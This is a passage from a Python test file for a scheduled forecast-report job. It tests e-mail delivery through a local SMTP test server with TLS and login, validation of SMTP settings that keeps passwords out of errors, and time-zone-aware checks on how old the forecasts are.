    assert result.returncode == 0, result.stderr[-2000:]
    assert "code location loaded" in result.stdout and "report failed: [Errno 13] Permission denied" in result.stdout
    (run,) = runs_of(db, schedule_id)
    assert run.status == "failed" and "PermissionError" in run.error
    assert list(read_only.iterdir()) == []


# ---------------------------------------------------------------- e-mail delivery


class Mailbox:
    """aiosmtpd handler: keeps what it is sent; refuses recipients listed in ``refuse``."""

    def __init__(self, refuse: set[str] = frozenset()):
        self.messages: list[tuple[list[str], email.message.Message]] = []
        self.refuse = refuse

    async def handle_RCPT(self, server, session, envelope, address, rcpt_options):
        if address in self.refuse:
            return "550 5.1.1 mailbox unavailable"
        envelope.rcpt_tos.append(address)
        return "250 OK"

    async def handle_DATA(self, server, session, envelope):
        self.messages.append(
            (list(envelope.rcpt_tos), email.message_from_bytes(envelope.content, policy=policy.default))
        )
        return "250 Message accepted"


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.fixture
def smtp_server():
    """A real SMTP server on 127.0.0.1, in this process."""
    from aiosmtpd.controller import Controller

    started = []

    def start(mailbox: Mailbox, **options) -> int:
        controller = Controller(mailbox, hostname="127.0.0.1", port=_free_port(), **options)
        controller.start()
        started.append(controller)
        return controller.port

    yield start
    for controller in started:
        controller.stop()


@pytest.fixture
def smtp_env(monkeypatch):
    """Set REPORT_SMTP_* for the report job (settings are read once per process: cache cleared)."""

    def configure(**values: str) -> None:
        for name, value in values.items():
            monkeypatch.setenv(name, value)
        get_report_settings.cache_clear()

    yield configure
    monkeypatch.undo()
    get_report_settings.cache_clear()


def test_a_report_is_emailed_to_its_recipients_and_written(db, rclient, tmp_path, smtp_server, smtp_env):
    mailbox = Mailbox()
    port = smtp_server(mailbox)
    smtp_env(
        REPORT_SMTP_HOST="127.0.0.1",
        REPORT_SMTP_PORT=str(port),
        REPORT_SMTP_SECURITY="none",
        REPORT_SMTP_FROM="Forecasts <reports@forecasts.example>",
    )
    cache_forecasts(rclient, {1: 10.0})
    account = add_account(db, name="Acme", parameters={"product_ids": [1], "email_to": ["ops@acme.example"]})
    own = add_schedule(
        db,
        account,
        now() - dt.timedelta(minutes=1),
        name="to-the-buyer",
        parameters={"email_to": ["buyer@acme.example", "cfo@acme.example"]},
    )
    inherited = add_schedule(db, account, now() - dt.timedelta(minutes=2), name="to-ops")
    with DagsterInstance.ephemeral() as instance:
        for request in evaluate_tick(instance, db).run_requests:
            assert execute(request, db, instance, tmp_path).success
    assert sorted(sorted(rcpts) for rcpts, _ in mailbox.messages) == [
        ["buyer@acme.example", "cfo@acme.example"],
        ["ops@acme.example"],
    ]
    (_, message) = next(m for m in mailbox.messages if "ops@acme.example" in m[0])
    assert message["From"] == "Forecasts <reports@forecasts.example>" and message["Subject"].startswith(
        "Demand forecast for Acme, "
    )
    assert "Expected demand, next 12 weeks" in message.get_body(("plain",)).get_content()
    assert '<svg class="chart total"' in message.get_body(("html",)).get_content()
    attachments = {p.get_filename(): p.get_content().replace("\r\n", "\n").strip() for p in message.iter_attachments()}
    html_path, csv_path = report_paths(tmp_path, account, inherited, runs_of(db, inherited)[0].scheduled_for)
    assert attachments == {
        html_path.name: html_path.read_text(encoding="utf-8").strip(),
        csv_path.name: csv_path.read_text(encoding="utf-8").strip(),
    }
    for schedule_id in (own, inherited):
        assert generation_of(db, runs_of(db, schedule_id)[0].id).status == "succeeded"


def _self_signed_certificate(folder: Path) -> tuple[Path, Path]:
    """A certificate for 127.0.0.1 and its key (PEM), for a TLS test server."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
    moment = dt.datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(moment - dt.timedelta(minutes=5))
        .not_valid_after(moment + dt.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]), False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), True)
        .sign(key, hashes.SHA256())
    )
    cert_path, key_path = folder / "smtp.pem", folder / "smtp.key"
    cert_path.write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    return cert_path, key_path


@pytest.mark.parametrize(
    ("security", "password", "delivered"),
    [("starttls", "s3cret-pw", True), ("ssl", "s3cret-pw", True), ("starttls", "wrong-pw", False)],
)
def test_reports_go_over_tls_with_a_login_and_a_bad_password_is_not_shown(
    security, password, delivered, db, rclient, tmp_path, smtp_server, smtp_env, monkeypatch
):
    from aiosmtpd.smtp import AuthResult, LoginPassword

    cert_path, key_path = _self_signed_certificate(tmp_path)
    tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    tls.load_cert_chain(cert_path, key_path)

    def authenticator(server, session, envelope, mechanism, auth_data):
        good = isinstance(auth_data, LoginPassword) and (auth_data.login, auth_data.password) == (
            b"reports",
            b"s3cret-pw",
        )
        return AuthResult(success=good, handled=False)  # handled=False: the server answers 535 itself

    mailbox = Mailbox()
    auth = {"authenticator": authenticator}
    if security == "starttls":
        port = smtp_server(mailbox, tls_context=tls, require_starttls=True, **auth)
    else:
        port = smtp_server(mailbox, ssl_context=tls, auth_require_tls=False, **auth)
    monkeypatch.setenv("SSL_CERT_FILE", str(cert_path))  # the client trusts the test server's certificate
    smtp_env(
        REPORT_SMTP_HOST="127.0.0.1",
        REPORT_SMTP_PORT=str(port),
        REPORT_SMTP_SECURITY=security,
        REPORT_SMTP_FROM="reports@forecasts.example",
        REPORT_SMTP_USER="reports",
        REPORT_SMTP_PASSWORD=password,
    )
    cache_forecasts(rclient, {1: 10.0})
    account = add_account(db, parameters={"product_ids": [1], "email_to": ["ops@acme.example"]})
    schedule_id = add_schedule(db, account, now() - dt.timedelta(minutes=1))
    with DagsterInstance.ephemeral() as instance:
        (request,) = evaluate_tick(instance, db).run_requests
        assert execute(request, db, instance, tmp_path).success is delivered
    (run,) = runs_of(db, schedule_id)
    if delivered:
        assert run.status == "succeeded" and [rcpts for rcpts, _ in mailbox.messages] == [["ops@acme.example"]]
    else:
        assert run.status == "failed" and "SMTPAuthenticationError" in run.error and password not in run.error
        assert mailbox.messages == []


@pytest.mark.parametrize("failure", ["refused", "unreachable", "not configured"])
def test_a_failed_delivery_is_recorded_keeps_the_files_and_is_not_charged(
    failure, db, rclient, tmp_path, smtp_server, smtp_env
):
    if failure == "not configured":
        smtp_env()
    else:
        port = smtp_server(Mailbox(refuse={"ops@acme.example"})) if failure == "refused" else _free_port()
        smtp_env(
            REPORT_SMTP_HOST="127.0.0.1",
            REPORT_SMTP_PORT=str(port),
            REPORT_SMTP_SECURITY="none",
            REPORT_SMTP_FROM="reports@forecasts.example",
            REPORT_SMTP_TIMEOUT_SECONDS="5",
        )
    cache_forecasts(rclient, {1: 10.0})
    account = add_account(db, limit=1, parameters={"product_ids": [1], "email_to": ["ops@acme.example"]})
    schedule_id = add_schedule(db, account, now() - dt.timedelta(minutes=1))
    with DagsterInstance.ephemeral() as instance:
        (request,) = evaluate_tick(instance, db).run_requests
        assert not execute(request, db, instance, tmp_path).success
    (run,) = runs_of(db, schedule_id)
    generation = generation_of(db, run.id)
    assert run.status == generation.status == "failed"
    expected = {
        "refused": "e-mail to ops@acme.example refused: ops@acme.example (550 5.1.1 mailbox unavailable)",
        "unreachable": "ConnectionRefusedError",
        "not configured": "REPORT_SMTP_HOST is not set",
    }[failure]
    assert expected in run.error
    if failure == "not configured":  # nothing could be delivered: nothing is written either
        assert generation.output_location is None
    else:  # the files stay, and the failure says where
        assert Path(generation.output_location).exists() and Path(generation.csv_location).exists()
        assert f"report written to {generation.output_location}" in run.error
    with db.connect() as conn:
        assert check_report_limit(conn, account).used == 0


@pytest.mark.parametrize(
    ("env", "message"),
    [
        ({"REPORT_SMTP_HOST": "mail.example", "REPORT_SMTP_FROM": ""}, "REPORT_SMTP_FROM is required"),
        ({"REPORT_SMTP_HOST": "mail.example", "REPORT_SMTP_FROM": "reports"}, "REPORT_SMTP_FROM='reports' is not an"),
        (
            {"REPORT_SMTP_HOST": "mail.example", "REPORT_SMTP_FROM": "r@x.example", "REPORT_SMTP_PORT": "70000"},
            "REPORT_SMTP_PORT=70000 must be between 1 and 65535",
        ),
        (
            {"REPORT_SMTP_HOST": "mail.example", "REPORT_SMTP_FROM": "r@x.example", "REPORT_SMTP_SECURITY": "tls1"},
            "REPORT_SMTP_SECURITY='tls1' must be one of starttls, ssl, none",
        ),
        (
            {"REPORT_SMTP_HOST": "mail.example", "REPORT_SMTP_FROM": "r@x.example", "REPORT_SMTP_PASSWORD": "hunter2"},
            "REPORT_SMTP_USER and REPORT_SMTP_PASSWORD must be set together",
        ),
        (
            {
                "REPORT_SMTP_HOST": "mail.example",
                "REPORT_SMTP_FROM": "r@x.example",
                "REPORT_SMTP_USER": "u",
                "REPORT_SMTP_PASSWORD": "hunter2",
                "REPORT_SMTP_SECURITY": "none",
            },
            "would send it in clear",
        ),
        ({"REPORT_SMTP_FROM": "r@x.example"}, "REPORT_SMTP_FROM is set but REPORT_SMTP_HOST is not"),
    ],
)
def test_bad_smtp_settings_name_the_variable_and_never_show_the_password(env, message):
    with pytest.raises(ConfigError, match="invalid report configuration") as info:
        load_report_settings(env)
    assert message in str(info.value) and "hunter2" not in str(info.value)


def test_smtp_settings_default_their_port_and_hide_the_password():
    settings = load_report_settings(
        {
            "REPORT_SMTP_HOST": "mail.example",
            "REPORT_SMTP_FROM": "r@x.example",
            "REPORT_SMTP_USER": "u",
            "REPORT_SMTP_PASSWORD": "hunter2",
            "REPORT_SMTP_SECURITY": "ssl",
        }
    )
    assert (settings.smtp.host, settings.smtp.port) == ("mail.example", 465)
    assert settings.smtp.password.get_secret_value() == "hunter2"
    assert "hunter2" not in repr(settings)
    assert load_report_settings({}).smtp is None


@pytest.mark.parametrize(
    ("zone", "now", "fresh"),
    [
        # 2026-12-04 local (UTC-11): the 2026-11-26 forecasts are 8 days old, within the limit
        ("Pacific/Pago_Pago", dt.datetime(2026, 12, 5, 1, 0, tzinfo=dt.UTC), True),
        # 2026-12-05 local (UTC+14): 9 days old, over it
        ("Pacific/Kiritimati", dt.datetime(2026, 12, 4, 23, 0, tzinfo=dt.UTC), False),
    ],
)
def test_forecast_age_is_counted_in_the_days_of_the_partitions_time_zone(zone, now, fresh):
    """As-of dates are days in FORECAST_SCHEDULE_TIMEZONE, so their age is counted in that zone's
    days: in UTC days the limit was a day off for up to 14 hours a day in far zones."""
    if fresh:
        check_fresh("2026-11-26", now, 8, zone)
    else:
        with pytest.raises(ReportRefused, match="9 days old"):
            check_fresh("2026-11-26", now, 8, zone)
